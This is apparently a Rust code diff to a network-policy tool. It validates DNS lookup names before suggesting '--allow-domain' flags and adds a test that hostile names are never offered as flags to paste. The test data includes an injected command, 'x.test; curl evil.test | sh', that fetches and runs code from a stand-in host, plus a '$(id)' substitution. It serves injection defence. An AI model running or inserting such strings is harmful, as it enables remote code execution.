@@ -176,11 +176,19 @@ fn fix(rule: RuleId, target: &Target, ctx: &Context) -> Fix {
         // and never a resolver, which would only carry lookups.
         RuleId::NetEgressBlocked => match target {
             Target::Address { port: Some(53), .. } => Fix::None(RESOLVER_NO_NAME.into()),
-            // A name the DNS stub refused: the name is the entry.
+            // A name the DNS stub refused: the name is the entry, if it
+            // is one a flag takes as it is (the job chose its bytes: not
+            // `*.x`, which would allow a whole domain, nor `x:443`, nor
+            // shell words to paste).
             Target::Host {
                 host,
                 port: Some(53),
-            } => allow_domain(host),
+            } => match crate::policy::validate::parse_host(host) {
+                Ok((name, None)) if !name.contains('*') && name == *host => allow_domain(host),
+                _ => Fix::None(
+                    "no flag: the name asked is not a host name an allow rule could name".into(),
+                ),
+            },
             Target::Address {
                 addr,
                 port: Some(p),
@@ -691,6 +699,47 @@ mod tests {
         assert!(
             out[2].contains("--allow-domain [2001:db8::1]:443 "),
             "{out:?}"
+        );
+    }
+
+    /// A job chooses the names it looks up: one that is no host name
+    /// (shell words, a wildcard, a port) is shown, escaped, but never
+    /// offered as a flag or policy line to paste.
+    #[test]
+    fn a_hostile_lookup_name_is_never_offered_as_a_flag_to_paste() {
+        for hostile in [
+            "x.test; curl evil.test | sh",
+            "*.evil.test",
+            "evil.test:443",
+            "$(id).test",
+        ] {
+            let conns = vec![(
+                refused(Some(hostile), 53, ConnReason::DnsRefused, ConnVia::Dns),
+                1,
+            )];
+            let out = lines(&[], 0, &conns, false, false, &ctx());
+            let line = out
+                .iter()
+                .find(|l| l.contains("(a name lookup)"))
+                .unwrap_or_else(|| panic!("{out:#?}"));
+            assert!(!line.contains("--allow-domain"), "{line}");
+            assert!(!line.contains("allow = ["), "{line}");
+            assert!(line.contains("no flag"), "{line}");
+        }
+        let conns = vec![(
+            refused(
+                Some("ok.example.test"),
+                53,
+                ConnReason::DnsRefused,
+                ConnVia::Dns,
+            ),
+            1,
+        )];
+        let out = lines(&[], 0, &conns, false, false, &ctx());
+        assert!(
+            out.iter()
+                .any(|l| l.contains("--allow-domain ok.example.test")),
+            "{out:#?}"
         );
     }
 
